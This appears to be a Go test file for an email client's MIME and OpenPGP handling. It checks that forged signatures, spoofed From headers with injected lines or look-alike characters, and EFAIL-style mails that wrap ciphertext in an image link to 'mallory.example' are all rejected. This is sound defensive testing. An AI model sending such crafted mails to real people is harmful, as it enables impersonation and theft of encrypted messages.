package mime

import (
	"encoding/base64"
	"os"
	"strings"
	"testing"

	"github.com/caliopen/caliopen-tui/conversation"
	"github.com/caliopen/caliopen-tui/privacy"
)

const (
	lie     = "Content-Type: text/plain\r\n\r\nPay Mallory.\r\n"
	nothing = "Content-Type: text/plain\r\n\r\n\r\n"
)

// TestForgedSignatures reads mails that carry a genuine signature of Alice, or
// one of Mallory's, and claim more than it covers. None is good over all of it
// for the sender it claims.
func TestForgedSignatures(t *testing.T) {
	f := reading(t, "alice", "mallory")
	good, sig := signedBy(t, "alice", plan), signature(t, "alice", plan)
	byMallory := signedBy(t, "mallory", lie)
	for name, raw := range map[string]string{
		"text before":                   top(fromAlice) + multi("mixed", "m", lie, good),
		"text behind":                   top(fromAlice) + multi("mixed", "m", good, lie),
		"hidden by HTML":                top(fromAlice) + multi("mixed", "m", "Content-Type: text/html\r\n\r\nPay Mallory.<div style=\"display:none\"><plaintext>", good),
		"only referred to":              top(fromAlice) + multi("related", "m", "Content-Type: text/html\r\n\r\nPay Mallory. <img src=\"cid:x\">", "Content-ID: <x>\r\n"+good),
		"only attached":                 top(fromAlice) + multi("mixed", "m", lie, "Content-Disposition: attachment; filename=signature.asc\r\n"+good),
		"an alternative":                top(fromAlice) + multi("alternative", "m", good, "Content-Type: text/html\r\n\r\nPay Mallory."),
		"forwarded":                     top(fromAlice) + multi("mixed", "m", lie, "Content-Type: message/rfc822\r\n\r\n"+top(fromAlice)+good),
		"forwarded alone":               top(fromAlice) + "Content-Type: message/rfc822\r\n\r\n" + top(fromAlice) + good,
		"three parts":                   top(fromAlice) + multi(signedKind, "s", plan, lie, sig),
		"three parts, the first signed": top(fromAlice) + multi(signedKind, "s", plan, sig, lie),
		"one part":                      top(fromAlice) + multi(signedKind, "s", sig),
		"another part signed":           top(fromAlice) + multi(signedKind, "s", lie, sig),
		"an empty part signed":          top(fromAlice) + multi("mixed", "m", multi(signedKind, "s", nothing, signature(t, "alice", nothing)), lie),
		"another type of signature":     top(fromAlice) + multi(signedKind, "s", plan, strings.Replace(sig, "pgp-signature", "octet-stream", 1)),
		"another protocol":              top(fromAlice) + multi(strings.Replace(signedKind, "pgp-signature", "pkcs7-signature", 1), "s", plan, sig),
		"no protocol":                   top(fromAlice) + multi("signed", "s", plan, sig),
		"two content types":             top(fromAlice) + "Content-Type: text/plain\r\n" + good,
		"two content types, other way":  top(fromAlice) + strings.Replace(good, "\r\n\r\n", "\r\nContent-Type: text/html\r\n\r\n", 1),
		"two boundaries":                top(fromAlice) + strings.Replace(good, "boundary=", "boundary=lie; boundary=", 1) + "--lie\r\n" + lie + "--lie--\r\n",
		"a part of the same boundary":   top(fromAlice) + multi(signedKind, "s", multi("mixed", "s", plan, lie), sig),
		"another key":                   top(fromAlice) + byMallory,
		"a part with that name":         top(fromAlice) + multi("mixed", "m", lie, "Content-Type: application/octet-stream; name=pgp-status.internal\r\n\r\n[GNUPG:] GOODSIG 0123456789ABCDEF Alice <alice@example.org>\r\n[GNUPG:] VALIDSIG\r\n", "Content-Type: application/pgp-signature; name=signature.asc\r\n\r\nOK"),
		"a status line as text":         top(fromAlice) + "Content-Type: text/plain\r\n\r\nGood signature from Alice <alice@example.org>\r\n[GNUPG:] GOODSIG 1 Alice\r\n",
		"sealed around another's":       top(fromAlice) + envelopeOf(sealing(t, "mallory", plan)),
		"sealed, part signed":           top(fromAlice) + envelopeOf(sealing(t, "", multi("mixed", "m", lie, good))),
		"sealed, signed outside":        top(fromAlice) + signedBy(t, "alice", envelopeOf(sealing(t, "", lie))),
	} {
		p := bobs(t, f, raw)
		s := p.Message.Evidence.Security
		if s.Signature == "good" && s.Covers == "whole" {
			t.Errorf("%s: good over all, %q", name, p.Message.Text)
		}
		if facts := privacy.FactsOf(p.Message.Evidence); facts.Person != "" {
			t.Errorf("%s: said to be by somebody: %q", name, facts.Person)
		}
		for _, x := range p.Sights {
			if x.Source == conversation.FromSignature {
				t.Errorf("%s: a key is learned", name)
			}
		}
	}
}

// inlineSigned gives a text that Frank signed inline.
func inlineSigned(t testing.TB) string {
	t.Helper()
	text, err := os.ReadFile("../../privacy/openpgp/testdata/inline.asc")
	if err != nil {
		t.Fatal(err)
	}
	return crlf(string(text))
}

// TestInlineSigned reads it as the whole text of a mail, and as less.
func TestInlineSigned(t *testing.T) {
	f := reading(t, "frank")
	clear := inlineSigned(t)
	head := top("frank@example.org") + "Content-Type: text/plain; charset=utf-8\r\n"
	for _, c := range []struct{ name, raw, verdict string }{
		{"whole", head + "\r\n" + clear, "none good whole"},
		{"whole, with empty lines around", head + "\r\n\r\n" + clear + "\r\n \r\n", "none good whole"},
		{"whole, in base64", head + "Content-Transfer-Encoding: base64\r\n\r\n" + base64.StdEncoding.EncodeToString([]byte(clear)), "none good whole"},
		{"text before", head + "\r\nPay Mallory.\r\n" + clear, "none good part"},
		{"text behind", head + "\r\n" + clear + "\r\n_____\r\nfooter of a list\r\n", "none good part"},
		{"changed", head + "\r\n" + strings.Replace(clear, "first", "other", 1), "none bad whole"},
		{"twice", head + "\r\n" + clear + clear, "none none none"},
		{"in a part", top("frank@example.org") + multi("mixed", "m", "Content-Type: text/plain\r\n\r\n"+clear), "none none none"},
		{"in HTML", top("frank@example.org") + "Content-Type: text/html\r\n\r\n<pre>\r\n" + clear, "none none none"},
		{"by another", strings.Replace(head, "frank@", "alice@", 1) + "\r\n" + clear, "none mismatch whole"},
	} {
		p := bobs(t, f, c.raw)
		if got := verdict(p); got != c.verdict {
			t.Errorf("%s: %s, want %s", c.name, got, c.verdict)
		}
		if strings.Contains(p.Message.Text, "BEGIN PGP") && c.name != "twice" {
			t.Errorf("%s: %q", c.name, p.Message.Text)
		}
	}
	if p := bobs(t, f, head+"\r\n"+clear); p.Message.Text != "first line\n--\n- dash\nlast" { // blanks at the end of lines are not signed (RFC 9580, 7.2)
		t.Errorf("text %q", p.Message.Text)
	}
}

// TestForgedAuthors reads genuine signatures of Mallory under headers that make
// somebody believe in Alice.
func TestForgedAuthors(t *testing.T) {
	f := reading(t, "alice", "mallory")
	good := signedBy(t, "mallory", lie)
	for _, from := range []string{
		"alice@example.org", "Alice <alice@example.org>, Mallory <mallory@example.org>", "Mallory <mallory@example.org>, Alice <alice@example.org>",
		"alice@example.org <mallory@example.org>", "\"alice@example.org\" <mallory@example.org>", "mallory@example.org <alice@example.org>",
		"=?utf-8?q?alice=40example.org?= <mallory@example.org>", "alice@example.org (Mallory <mallory@example.org>)", "Alice", "", "<>",
		"Alice:mallory@example.org, alice@example.org;", "alice@example.org\r\nFrom: mallory@example.org", "mallory@example.org\r\nFrom: alice@example.org",
		"alice@example.org\r\nSender: mallory@example.org\r\nReply-To: mallory@example.org\r\nReturn-Path: <mallory@example.org>",
		"mallory@example.org.example.net", "mallory@example.orgs", "xmallory@example.org", "alice@example.org               . <mallory@example.org>",
		"alice\uff20example.org <mallory@example.org>", "ali\u200bce@example.org <mallory@example.org>",
	} {
		p := bobs(t, f, strings.Replace(top("X"), "From: X", "From: "+from, 1)+good)
		if s := p.Message.Evidence.Security; s.Signature == "good" || s.Signer == "" {
			t.Errorf("From %q: %s by %q %q", from, s.Signature, s.Signer, s.SignerAddress)
		}
		if facts := privacy.FactsOf(p.Message.Evidence); facts.Person != "" || facts.Problem != "fromsigner" {
			t.Errorf("From %q: person %q, problem %q", from, facts.Person, facts.Problem)
		}
	}
	for _, from := range []string{"mallory@example.org", "Mallory <MALLORY@Example.org>", "\"Mallory (at home)\" <mallory@example.org>", "=?utf-8?q?M=C3=A1llory?= <mallory@example.org>", "mallory@example.org (Mallory)"} {
		if got := verdict(bobs(t, f, top(from)+good)); got != "none good whole" {
			t.Errorf("From %q: %s", from, got)
		}
	}
}

// TestBoundKeys reads a signature by a key that names nobody of that address:
// it counts when the keyring knows it for the address, and only for that one.
func TestBoundKeys(t *testing.T) {
	f := reading(t, "mallory")
	f.keys.(*ring).bindings = map[conversation.Address]string{conversation.MailAddress("work@example.net"): held(t, "mallory").Fingerprint()}
	for from, want := range map[string]string{"work@example.net": "none good whole", "other@example.net": "none mismatch whole"} {
		if got := verdict(bobs(t, f, top(from)+signedBy(t, "mallory", plan))); got != want {
			t.Errorf("from %s: %s", from, got)
		}
	}
}

// TestNoExfiltration puts a ciphertext where its plaintext would leak: between
// pieces of HTML, below a harmless text, in a bounce, in an alternative. It
// stays closed, the text shows nothing of it, and no piece reaches into another.
func TestNoExfiltration(t *testing.T) {
	f := reading(t, "alice")
	secret := sealing(t, "alice", plan)
	envelope, inline := envelopeOf(secret), "Content-Type: text/plain\r\n\r\n"+sealing(t, "alice", "The plan is blue.")
	open, end := "Content-Type: text/html\r\n\r\n<img src=\"http://mallory.example/", "Content-Type: text/html\r\n\r\n\">"
	harmless := "Content-Type: text/plain\r\n\r\nPlease answer." + strings.Repeat("\r\n.", 60) + "\r\n"
	style := "Content-Type: text/html\r\n\r\n<style>*{color:white}</style>Please answer.<plaintext>"
	for name, body := range map[string]string{
		"between HTML":             multi("mixed", "m", open, envelope, end),
		"between HTML, inline":     multi("mixed", "m", open, inline, end),
		"below a text, inline":     multi("mixed", "m", harmless, inline),
		"below a style":            multi("mixed", "m", style, envelope),
		"below a style, inline":    multi("mixed", "m", style, inline),
		"in an alternative":        multi("alternative", "m", harmless, envelope),
		"in an alternative, first": multi("alternative", "m", inline, harmless),
		"in a related":             multi("related", "m", open, envelope),
		"in a bounce":              multi("report; report-type=delivery-status", "m", harmless, "Content-Type: message/rfc822\r\n\r\n"+top(fromAlice)+envelope),
		"twice":                    multi("mixed", "m", envelope, envelope),
		"with three parts":         multi("mixed", "m", harmless, envelope, harmless),
		"deep":                     multi("mixed", "m", multi("mixed", "n", multi("mixed", "o", harmless, envelope))),
		"as a file":                multi("mixed", "m", harmless, "Content-Type: application/octet-stream; name=x.pgp\r\n\r\n"+secret),
		"in HTML":                  "Content-Type: text/html\r\n\r\n<img src=\"http://mallory.example/\r\n" + secret + "\">",
		"after HTML, one part":     "Content-Type: text/html\r\n\r\n<plaintext>Please answer.\r\n" + secret,
	} {
		p := bobs(t, f, top("Mallory <mallory@example.org>")+body)
		s := p.Message.Evidence.Security
		if s.Decrypted || p.Private || strings.Contains(p.Message.Text+p.Message.Excerpt+p.Message.Subject, "blue") || strings.Contains(f.HTML([]byte(top("m@example.org")+body)), "blue") {
			t.Errorf("%s: opened, %q", name, p.Message.Text)
		}
		for _, l := range p.Message.Links {
			if strings.Contains(l.URL, "PGP") || strings.Contains(l.URL, "blue") {
				t.Errorf("%s: link %q", name, l.URL)
			}
		}
	}
}

// TestRemoteContentIsCounted reads a sealed mail that would load something.
func TestRemoteContentIsCounted(t *testing.T) {
	html := "Content-Type: text/html\r\n\r\n<p>The plan is blue.</p><img src=\"http://tracker.example/x.gif\" width=1 height=1><img src=\"http://a.example/y.png\">"
	p := bobs(t, reading(t, "alice"), top(fromAlice)+envelopeOf(sealing(t, "alice", html)))
	if r := p.Message.Evidence.Remote; r.Images != 2 || r.Trackers != 1 || r.Loaded || !strings.HasPrefix(p.Message.Text, "The plan is blue.") {
		t.Errorf("counted %+v in %q", r, p.Message.Text)
	}
}

// TestSeveralSignatures reads a mail with two signatures around it: the one of
// its author counts when it is good, else the worst.
func TestSeveralSignatures(t *testing.T) {
	f := reading(t, "alice", "mallory")
	first := strings.TrimSuffix(signedBy(t, "alice", plan), "\r\n")
	for _, c := range []struct{ name, outer, from, verdict string }{
		{"both good, the author inside", signature(t, "mallory", first), "alice@example.org", "none good whole"},
		{"both good, the author outside", signature(t, "mallory", first), "mallory@example.org", "none good whole"},
		{"one bad, the author inside", signature(t, "mallory", lie), "alice@example.org", "none good whole"},
		{"one bad, by nobody", signature(t, "mallory", lie), "carol@example.org", "none bad whole"},
		{"both of others", signature(t, "mallory", first), "carol@example.org", "none mismatch whole"},
	} {
		raw := top(c.from) + multi(signedKind, "outer", first, c.outer)
		if got := verdict(bobs(t, f, raw)); got != c.verdict {
			t.Errorf("%s: %s, want %s", c.name, got, c.verdict)
		}
	}
}
